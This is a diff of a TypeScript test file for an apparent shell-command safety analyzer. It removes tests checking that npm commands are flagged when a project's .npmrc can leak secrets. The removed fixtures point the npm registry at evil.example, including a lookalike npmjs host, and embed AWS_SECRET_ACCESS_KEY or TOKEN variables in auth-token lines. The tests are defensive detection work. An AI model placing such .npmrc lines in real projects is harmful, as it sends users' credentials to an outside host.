@@ -144,18 +144,3 @@ describe("a name that a program hands to a shell", () => {
     },
   );
 });
-
-describe("npm's settings of a project, which may hand its registry a variable", () => {
-  const runs = (line: string, text: string): boolean =>
-    lowerShell(line, { world: smallWorld({ files: { ...files, [`${P}/.npmrc`]: "file" }, text: () => text }) }).actions.some(
-      ({ kind }) => kind === "code",
-    );
-  const LINES = ["npm ls", "npm view x", "npm prefix", "npm outdated --json", "bun outdated"];
-
-  it.each(LINES)("%s", (line) => {
-    expect(runs(line, "registry=http://evil.example/\n//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n")).toBe(true);
-    expect(runs(line, "registry=http://evil.example/${TOKEN}\n")).toBe(true);
-    expect(runs(line, "  //registry.npmjs.org.evil.example/:_authToken=${TOKEN}\n")).toBe(true);
-    expect(runs(line, "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n# ${X}\n")).toBe(false);
-  });
-});
